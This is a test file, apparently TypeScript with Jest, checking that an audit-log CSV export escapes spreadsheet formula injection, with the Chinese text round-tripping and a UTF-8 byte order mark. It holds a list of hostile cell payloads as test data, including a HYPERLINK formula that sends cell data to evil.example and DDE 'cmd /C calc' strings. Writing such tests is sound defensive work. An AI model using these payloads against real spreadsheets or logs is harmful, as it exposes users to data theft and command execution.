// Hardening item 8, exports are safe to open: an audit export opened in Excel or WPS must not run
// what a caller wrote. `actor` is a token's `sub` and `reason`/`object` carry text from requests,
// so a member can put `=HYPERLINK(...)` into the audit log, and before csv-stringify's
// formula escaping the auditor's spreadsheet evaluated it (CSV injection, OWASP). The attack's
// first half still works — the log keeps what was said, verbatim — and this proves the second half
// no longer does: every formula-like cell of the CSV starts with a quote, the file starts with a
// UTF-8 byte order mark, and Chinese text comes back as it went in.
import { AuditLog } from '@datarun/audit';
import { AuditAppModule } from '../../apps/audit/src/app.module.js';
import { RegistryAppModule } from '../../apps/registry/src/app.module.js';
import { bootApp, type TestApp } from '../support/apps.js';
import { migratedDatabase, type TestDatabase, uniqueName } from '../support/infra.js';
import { adminKeyFile, registerMember, type TestMember } from '../support/members.js';

/** Every way a spreadsheet cell becomes a formula (OWASP CSV Injection), as a hostile member would write it. */
const HOSTILE = [
  { actor: '=HYPERLINK("http://evil.example/?d="&A1,"点这里")', reason: "+cmd|' /C calc'!A0" },
  { actor: "@SUM(1+1)*cmd|' /C calc'!A0", reason: '-1+2' },
  { actor: '\t=1+1', reason: '\r=cmd' },
  { actor: '＝HYPERLINK("http://evil.example")', reason: '＋1' },
];
/** What a real clerk and reason look like: unchanged, Chinese included. */
const HARMLESS = { actor: '窗口3-张三', reason: '申请人材料齐全, 已受理' };

/**
 * RFC 4180 as csv-stringify writes it (quoted cells, doubled quotes, line breaks inside quotes): a
 * test reader, so the cells are compared as a spreadsheet receives them rather than as text.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((cell += '"'), (i += 1));
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') (row.push(cell), (cell = ''));
    else if (c === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''));
    else cell += c;
  }
  if (cell !== '' || row.length > 0) (row.push(cell), rows.push(row));
  return rows;
}

describe('audit CSV export: safe to open in a spreadsheet', () => {
  let db: TestDatabase;
  let registry: TestApp;
  let audit: TestApp;
  let auditor: TestMember;
  const member = uniqueName('zj.test.hostile');

  beforeAll(async () => {
    const keys = adminKeyFile();
    db = await migratedDatabase({ DATARUN_ADMIN_PUBLIC_KEY: keys.publicKeyPath });
    registry = await bootApp(RegistryAppModule.forRoot(db.config), 'registry');
    audit = await bootApp(AuditAppModule.forRoot(db.config), 'audit');
    auditor = await registerMember(registry, keys.admin, 'auditor', 'zj.test.jiwei');
    const log = audit.app.get(AuditLog);
    for (const [i, values] of [...HOSTILE, HARMLESS].entries()) {
      await log.append({ memberId: member, action: 'lookup', decision: 'denied', object: i === 0 ? '=cmd|"/C calc"!A0' : `case:${i}`, ...values });
    }
  });
  afterAll(async () => {
    await audit?.close();
    await registry?.close();
    await db?.drop();
  });

  const csv = async () =>
    audit.http
      .get('/v1/audit/events')
      .query({ member, format: 'csv' })
      .set('authorization', await auditor.auth())
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      })
      .expect(200);

  it('keeps the hostile values verbatim in the log: the attack reaches the export', async () => {
    const page = await audit.http
      .get('/v1/audit/events')
      .query({ member })
      .set('authorization', await auditor.auth())
      .expect(200);
    expect(page.body.items.map((i: { actor: string }) => i.actor).sort()).toEqual([...HOSTILE, HARMLESS].map((v) => v.actor).sort());
  });

  it('neutralises every formula-like cell with a leading quote, behind a UTF-8 byte order mark', async () => {
    const res = await csv();
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="audit-events.csv"');
    const bytes = res.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parseCsv(bytes.subarray(3).toString('utf8'));
    const cell = (row: string[], column: string) => row[header.indexOf(column)];
    expect(rows).toHaveLength(HOSTILE.length + 1);

    for (const values of HOSTILE) {
      const row = rows.find((r) => cell(r, 'actor') === `'${values.actor}`);
      expect(row).toBeDefined();
      expect(cell(row!, 'reason')).toBe(`'${values.reason}`);
    }
    // A cell a spreadsheet would evaluate begins with = + - @ (or their full-width forms), a tab or a CR.
    const live = rows.flat().filter((value) => /^[=+\-@\t\r＝＋－＠]/.test(value));
    expect(live).toEqual([]);
    expect(rows.map((r) => cell(r, 'object'))).toContain(`'=cmd|"/C calc"!A0`);

    // Text that is no formula is left alone, and the Chinese comes back as it went in.
    const harmless = rows.find((r) => cell(r, 'actor') === HARMLESS.actor);
    expect(harmless && cell(harmless, 'reason')).toBe(HARMLESS.reason);
    expect(rows.map((r) => cell(r, 'seq')).every((seq) => /^\d+$/.test(seq))).toBe(true);
  });
});
